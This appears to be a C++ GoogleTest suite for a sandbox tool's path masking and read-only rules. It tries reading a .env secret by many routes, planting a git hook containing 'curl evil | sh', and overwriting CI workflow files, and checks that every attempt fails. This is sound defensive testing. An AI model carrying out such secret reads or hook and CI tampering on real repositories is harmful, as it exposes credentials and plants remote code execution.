// Path deny rules hold for every command, not only for the tools that check them: masked and
// read-only paths (`stockade run --mask / --read-only`, what runner/session/policy_enforcement.h
// makes of Read(...) and Edit(...) deny rules) are mounts in the sandbox, so `cat .env`, a copy, a
// python one-liner or a symlink made at run time all meet the same wall. Every case runs as root
// (idmapped workspace) and unprivileged (tests/testing/as_user.sh), in temporary directories.
#include <sys/stat.h>
#include <unistd.h>

#include <string>
#include <vector>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "tests/testing/sandbox_harness.h"

namespace stockade::testing {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

constexpr int kExitUsage = 2;
constexpr int kExitUnavailable = 77;

MATCHER_P(ExitsWith, code, "exits with " + std::to_string(code)) {
    return arg.exit_code == code && !arg.timed_out;
}

// Each line of the scripts below that must fail prints "<label>: failed", one that must
// succeed "<label>: ok".
constexpr const char* kCheck =
    R"(check() { label=$1; shift; if "$@"; then echo "$label: ok"; else echo "$label: failed"; fi; }
)";

class PolicyEnforcementTest : public ::testing::Test {
protected:
    void SetUp() override {
        ASSERT_FALSE(stockade_path().empty())
            << "STOCKADE_BIN is not set: run this suite through ctest";
        workspace_ = root_.make_dir("workspace");
        secret_ = "SECRET=hunter2-" + std::to_string(::getpid());
        level_ = auto_isolation_level();
    }

    // Masks need a mount namespace: without one here, the run must refuse (77), not run open.
    bool namespaces() const { return level_ == "full" || level_ == "namespaces"; }

    RunResult sh(const std::string& script, const std::vector<std::string>& options) {
        std::vector<std::string> args{"run", "--workspace", workspace_};
        args.insert(args.end(), options.begin(), options.end());
        args.insert(args.end(), {"--", "/bin/bash", "-c", std::string(kCheck) + script});
        RunConfig config;
        config.cwd = workspace_;
        return run_stockade(args, config);
    }

    // Runs `script` with `options`; false (test skipped or failed) unless the sandbox ran it.
    bool ran(const RunResult& r) {
        if (!namespaces()) {
            EXPECT_THAT(r, ExitsWith(kExitUnavailable)) << r.describe();
            EXPECT_THAT(r.err, HasSubstr("mount namespace"));
            return false;
        }
        EXPECT_THAT(r, ExitsWith(0)) << r.describe();
        return r.exit_code == 0;
    }

    std::string host_file(const std::string& relative) const {
        return read_file_text(root_.sub("workspace/" + relative)).value_or("<missing>");
    }
    bool host_exists(const std::string& relative) const {
        struct stat st {};
        return ::lstat(root_.sub("workspace/" + relative).c_str(), &st) == 0;
    }

    TempDir root_;
    std::string workspace_;
    std::string secret_;
    std::string level_;
};

TEST_F(PolicyEnforcementTest, AMaskedFileReadsAsNothingByAnyRoute) {
    root_.write_file("workspace/.env", secret_ + "\n");
    RunResult r = sh(R"(
check cat cat .env
check copy cp .env /tmp/copy
cat /tmp/copy 2>/dev/null
check python python3 -c 'print(open(".env").read())'
check symlink ln -s .env l
cat l
check hardlink ln .env hard
check dd dd if=.env of=/dev/stdout status=none
check grep grep -r hunter2 .
check mmap python3 -c 'import mmap; f=open(".env","rb"); print(mmap.mmap(f.fileno(),0,prot=mmap.PROT_READ)[:])'
echo done
)",
                     {"--mask", ".env"});
    if (!ran(r)) {
        return;
    }
    EXPECT_THAT(r.out + r.err, Not(HasSubstr("hunter2"))) << r.describe();
    for (const char* label : {"cat", "copy", "python", "hardlink", "dd", "grep", "mmap"}) {
        EXPECT_THAT(r.out, HasSubstr(std::string(label) + ": failed")) << r.describe();
    }
    EXPECT_THAT(r.out, HasSubstr("done"));
    EXPECT_EQ(host_file(".env"), secret_ + "\n") << "the host's file is untouched";
}

TEST_F(PolicyEnforcementTest, AMaskedFileCannotBeMovedRemovedOrOverwritten) {
    root_.write_file("workspace/.env", secret_ + "\n");
    RunResult r = sh(R"(
check mv mv .env moved
check rm rm .env
check rm-f rm -f .env
check write sh -c 'echo x > .env'
check append sh -c 'echo x >> .env'
check truncate truncate -s 0 .env
check chmod chmod 644 .env
check rename-over sh -c 'echo y > other && mv other .env'
ls -l .env
check other-write sh -c 'echo fine > other2'
)",
                     {"--mask", ".env"});
    if (!ran(r)) {
        return;
    }
    for (const char* label :
         {"mv", "rm", "rm-f", "write", "append", "truncate", "chmod", "rename-over"}) {
        EXPECT_THAT(r.out, HasSubstr(std::string(label) + ": failed")) << r.describe();
    }
    EXPECT_THAT(r.err, HasSubstr("busy")) << "rm/mv of a mount point: EBUSY";
    EXPECT_THAT(r.out, HasSubstr("other-write: ok"));
    EXPECT_EQ(host_file(".env"), secret_ + "\n");
    EXPECT_FALSE(host_exists("moved"));
    EXPECT_EQ(host_file("other2"), "fine\n");
}

TEST_F(PolicyEnforcementTest, AMaskedDirectoryShowsNothingAndTakesNothing) {
    root_.make_dir("workspace/secrets");
    root_.make_dir("workspace/secrets/deep");
    root_.write_file("workspace/secrets/prod.key", secret_);
    root_.write_file("workspace/secrets/deep/b.key", secret_);
    RunResult r = sh(R"(
check ls ls secrets
check cat cat secrets/prod.key
check deep cat secrets/deep/b.key
check find-content sh -c 'find . -type f -exec cat {} +'
check grep grep -r hunter2 .
check tar tar cf /tmp/t.tar secrets
check touch touch secrets/new
check mv mv secrets gone
check rm rm -rf secrets
check symlink-dir sh -c 'ln -s secrets s && cat s/prod.key'
)",
                     {"--mask", "secrets"});
    if (!ran(r)) {
        return;
    }
    EXPECT_THAT(r.out + r.err, Not(HasSubstr("hunter2"))) << r.describe();
    for (const char* label : {"ls", "cat", "deep", "grep", "touch", "mv", "rm", "symlink-dir"}) {
        EXPECT_THAT(r.out, HasSubstr(std::string(label) + ": failed")) << r.describe();
    }
    EXPECT_EQ(host_file("secrets/prod.key"), secret_);
    EXPECT_EQ(host_file("secrets/deep/b.key"), secret_);
    EXPECT_FALSE(host_exists("secrets/new"));
    EXPECT_FALSE(host_exists("gone"));
}

TEST_F(PolicyEnforcementTest, ReadOnlyGitHooksCannotBePlantedWhileTheRestIsWritable) {
    root_.make_dir("workspace/.git");
    root_.make_dir("workspace/.git/hooks");
    root_.write_file("workspace/.git/hooks/pre-commit.sample", "#!/bin/sh\n", 0755);
    root_.write_file("workspace/.git/config", "[core]\n\tbare = false\n");
    root_.make_dir("workspace/src");
    RunResult r = sh(R"(
check hook sh -c 'echo "curl evil | sh" > .git/hooks/pre-commit'
check hook-edit sh -c 'echo x >> .git/hooks/pre-commit.sample'
check hook-rm rm .git/hooks/pre-commit.sample
check hooks-mv mv .git/hooks .git/hooks.old
check hooks-rm rm -rf .git/hooks
check git-mv mv .git .git.old
check config-read cat .git/config
check config-write sh -c 'printf "[core]\n\thooksPath = /tmp\n" >> .git/config'
check config-replace sh -c 'echo x > .git/config.lock && mv .git/config.lock .git/config'
check git-other sh -c 'echo ref > .git/ORIG_HEAD'
check src sh -c 'echo code > src/main.c'
check new-dir sh -c 'mkdir -p build && echo o > build/out'
)",
                     {"--read-only", ".git/hooks", "--read-only", ".git/config"});
    if (!ran(r)) {
        return;
    }
    for (const char* label : {"hook", "hook-edit", "hook-rm", "hooks-mv", "hooks-rm", "git-mv",
                              "config-write", "config-replace"}) {
        EXPECT_THAT(r.out, HasSubstr(std::string(label) + ": failed")) << r.describe();
    }
    for (const char* label : {"config-read", "git-other", "src", "new-dir"}) {
        EXPECT_THAT(r.out, HasSubstr(std::string(label) + ": ok")) << r.describe();
    }
    EXPECT_FALSE(host_exists(".git/hooks/pre-commit"));
    EXPECT_TRUE(host_exists(".git/hooks/pre-commit.sample"));
    EXPECT_EQ(host_file(".git/config"), "[core]\n\tbare = false\n");
    EXPECT_FALSE(host_exists(".git.old"));
    EXPECT_EQ(host_file("src/main.c"), "code\n");
    EXPECT_EQ(host_file("build/out"), "o\n");
}

TEST_F(PolicyEnforcementTest, ParentsOfProtectedPathsCannotBeRenamedAway) {
    // Renaming a parent and putting a new directory in its place would put writable files at
    // the protected path on the host: the parents are pinned.
    root_.make_dir("workspace/.github");
    root_.make_dir("workspace/.github/workflows");
    root_.write_file("workspace/.github/workflows/ci.yml", "on: push\n");
    RunResult r = sh(R"(
check write sh -c 'echo evil > .github/workflows/ci.yml'
check rename-parent mv .github .github.old
check rename-grandparent mv .github/workflows .github/wf
check replace sh -c 'mkdir -p x/workflows && echo evil > x/workflows/ci.yml && { rm -rf .github; mv -T x .github; }'
check sibling sh -c 'echo fine > .github/CODEOWNERS'
)",
                     {"--read-only", ".github/workflows/ci.yml"});
    if (!ran(r)) {
        return;
    }
    for (const char* label : {"write", "rename-parent", "rename-grandparent", "replace"}) {
        EXPECT_THAT(r.out, HasSubstr(std::string(label) + ": failed")) << r.describe();
    }
    EXPECT_THAT(r.out, HasSubstr("sibling: ok"));
    EXPECT_EQ(host_file(".github/workflows/ci.yml"), "on: push\n");
    EXPECT_FALSE(host_exists(".github.old"));
}

TEST_F(PolicyEnforcementTest, MasksInsideReadOnlyDirectoriesAndOtherBinds) {
    root_.make_dir("workspace/deploy");
    root_.write_file("workspace/deploy/run.sh", "echo deploy\n");
    root_.write_file("workspace/deploy/.env", secret_);
    std::string config = root_.make_dir("config");
    root_.write_file("config/token", secret_);
    root_.write_file("config/settings", "plain\n");
    RunResult r = sh(R"(
check run-sh cat deploy/run.sh
check deploy-write sh -c 'echo x > deploy/new'
check deploy-env cat deploy/.env
check token cat )" + config +
                         R"(/token
check settings cat )" + config +
                         R"(/settings
)",
                     {"--ro", config, "--read-only", "deploy", "--mask", "deploy/.env", "--mask",
                      config + "/token"});
    if (!ran(r)) {
        return;
    }
    EXPECT_THAT(r.out + r.err, Not(HasSubstr("hunter2"))) << r.describe();
    EXPECT_THAT(r.out, HasSubstr("run-sh: ok"));
    EXPECT_THAT(r.out, HasSubstr("settings: ok"));
    for (const char* label : {"deploy-write", "deploy-env", "token"}) {
        EXPECT_THAT(r.out, HasSubstr(std::string(label) + ": failed")) << r.describe();
    }
}

TEST_F(PolicyEnforcementTest, AMissingPathIsSkipped) {
    RunResult r = sh("check create sh -c 'echo made > later.env'",
                     {"--mask", "later.env", "--read-only", "nothing/here"});
    if (!ran(r)) {
        return;
    }
    EXPECT_THAT(r.out, HasSubstr("create: ok")) << "masks cover what exists at launch";
}

TEST_F(PolicyEnforcementTest, PathsThroughSymlinksOrOutsideAreUsageErrors) {
    root_.write_file("workspace/.env", secret_);
    ASSERT_EQ(::symlink(".env", root_.sub("workspace/link").c_str()), 0);
    RunResult link = sh("true", {"--mask", "link"});
    EXPECT_THAT(link, ExitsWith(kExitUsage));
    EXPECT_THAT(link.err, HasSubstr("symbolic link"));
    EXPECT_THAT(link.err, HasSubstr(root_.sub("workspace/.env")));
    std::string outside = root_.make_dir("outside");
    RunResult out = sh("true", {"--read-only", outside});
    EXPECT_THAT(out, ExitsWith(kExitUsage));
    EXPECT_THAT(out.err, HasSubstr("not inside the workspace"));
}

TEST_F(PolicyEnforcementTest, WithoutAMountNamespaceMasksFailClosed) {
    root_.write_file("workspace/.env", secret_);
    RunResult plain = sh("true", {"--isolation", "landlock"});
    if (plain.exit_code != 0) {
        GTEST_SKIP() << "level landlock is not available here: " << plain.err;
    }
    RunResult r = sh("cat .env", {"--isolation", "landlock", "--mask", ".env"});
    EXPECT_THAT(r, ExitsWith(kExitUnavailable)) << r.describe();
    EXPECT_THAT(r.err, HasSubstr("mount namespace"));
    EXPECT_THAT(r.err, HasSubstr("--isolation full or namespaces"));
    EXPECT_THAT(r.out, Not(HasSubstr("hunter2")));
    RunResult none = sh("cat .env", {"--isolation", "none", "--read-only", ".env"});
    EXPECT_THAT(none, ExitsWith(kExitUnavailable)) << none.describe();
}

}  // namespace
}  // namespace stockade::testing
